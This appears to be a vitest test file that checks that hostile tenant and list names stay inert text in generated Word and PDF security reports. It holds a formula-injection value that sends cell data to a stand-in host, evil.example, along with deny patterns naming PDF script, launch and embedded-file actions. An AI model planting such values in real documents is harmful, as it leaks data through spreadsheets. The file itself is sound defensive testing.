import { hostileTexts } from '@rampart/simulators/test-support/hostile-texts.ts';
import { dateWriter } from '@rampart/domain/reports/date-language.ts';
import { expect, test } from 'vitest';
import { hasLibreOffice, readByLibreOffice } from '../../../test-support/reports/libre-office.ts';
import { openedGuide } from '../../../test-support/reports/opened-guide.ts';
import { openedPdf } from '../../../test-support/reports/opened-pdf.ts';
import type { ReportFigures } from './gather-figures.ts';
import { writePdf } from './pdf/write-pdf.ts';
import { nameText } from './report-words.ts';
import { writeWord } from './word/write-word.ts';
import { writeDocument } from './write-document.ts';

const madeAt = new Date('2026-11-16T06:00:00Z');
const job = (name: string): ReportFigures['deployments'][number] => ({
  job_uuid: crypto.randomUUID(),
  created_ts: '2026-11-12T10:00:00.000Z',
  finished_ts: null,
  deployment_action: 0,
  phase: 'deploy',
  deployed_by: name,
  remediation: null,
  quest_instance_id: null,
  lists: [name],
  objects: [],
  change_count: 2,
  applied_count: 1,
  in_force_count: 0,
  immediate_count: 0,
  can_stage: true,
  product_name: 'okta',
  product_title: name,
  deployment_status: 'partial_success',
  deployment_state: 'finished',
  display_logs: [],
  deployment_type: 'people-list',
  approval: 'not-needed',
  approval_by: null,
});

const score = { value: 61.4, passing: 8, failing: 5, passing_weight: 20, failing_weight: 12, confirming: 0, unknown: 1, risk_accepted: 0 };
const figuresWith = (names: readonly string[], tenantName: string): ReportFigures => ({
  tenantName,
  madeAt,
  period: { from: new Date('2026-11-09T00:00:00Z'), to: madeAt },
  bridge: {
    as_of: '2026-11-15T06:00:00.000Z',
    score: { ...score, with_accepted_risks: null },
    history: [
      { day: '2026-01-10', score: 20 },
      { day: '2026-06-10', score: 45.5 },
      { day: '2026-11-15', score: 61.4 },
    ],
    moved: null,
    bricks: [],
    products: [],
    next: [],
    open: 3,
    to_connect: [],
  },
  scoreThen: null,
  deployments: names.map(job),
  areMoreDeployments: false,
  stopped: [],
  frameworks: [],
});

const documentWith = (names: readonly string[], tenantName = 'Halden Freight') =>
  writeDocument(figuresWith(names, tenantName), dateWriter('en-GB'));
/** What a reader obeys rather than shows. */
const obeyed = /[^\P{Cc}\n]|(?![\u200C\u200D])\p{Cf}|[\p{Zl}\p{Zp}]/u;

test('hostile names are words in the Word document: no field, no link, no broken XML', async () => {
  for (let from = 0; from < hostileTexts.length; from += 12) {
    const names = hostileTexts.slice(from, from + 12);
    const word = await openedGuide(await writeWord(documentWith(names, names.at(-1))));
    expect(obeyed.test(word.text)).toBe(false);
    const cells = word.tables.flatMap(({ rows }) => rows.flat());
    expect(names.map(nameText).filter((name) => !cells.includes(name === '' ? '–' : name))).toEqual([]);
    const main = word.parts.get('word/document.xml') ?? '';
    expect(main).not.toMatch(/w:instrText|w:fldSimple|w:hyperlink|w:object|w:control/);
    expect([...word.parts.keys()].filter((part) => /vba|activeX|embeddings|externalLink/i.test(part))).toEqual([]);
  }
});

test('hostile names are words in the PDF: no action, no script, no link, no attached file', async () => {
  const bytes = await writePdf(documentWith(hostileTexts.slice(0, 28), hostileTexts[1]), madeAt);
  const raw = bytes.toString('latin1');
  expect(raw).not.toMatch(/\/(JavaScript|JS|OpenAction|AA|Launch|URI|EmbeddedFile|Annots)\b/);
  const { text } = await openedPdf(bytes);
  expect(text.replaceAll(' ', '')).toContain('=HYPERLINK("http://evil.example/?"&A1,"Open")');
});

const boxes = 'shown as boxes here; the Word document of this report shows them';

test.each(['Ελληνική Τράπεζα', 'Акционерное общество «Ромашка»', 'Łódź, Ærø & Straße 2 – №4'])(
  'the PDF has the letters of %s',
  async (name) => {
    const { text } = await openedPdf(await writePdf(documentWith([name]), madeAt));
    expect(text).toContain(name);
    expect(text).not.toContain(boxes);
  },
);

test.each(['日本電気株式会社', 'شركة الأمن'])('the PDF says that %s is shown as boxes, and where it is legible', async (name) => {
  expect((await openedPdf(await writePdf(documentWith([name]), madeAt))).text).toContain(boxes);
});

test('a table of many rows goes on to further pages, and every page has its number', async () => {
  const names = Array.from({ length: 45 }, (_, place) => `List ${place + 1}`);
  const { text, pages } = await openedPdf(await writePdf(documentWith(names), madeAt));
  expect(pages).toBeGreaterThan(1);
  expect(text).toContain(`Page ${pages} of ${pages}`);
  expect(text).toContain('33 more are in the Deployment Log.');
});

/** Where it is not installed there is nothing to open it with. */
test.each(hasLibreOffice ? ['Emergency access'] : [])('LibreOffice reads %s in the Word document', async (name) => {
  expect(await readByLibreOffice(await writeWord(documentWith([name])))).toContain(`Deployed: ${name}`);
});
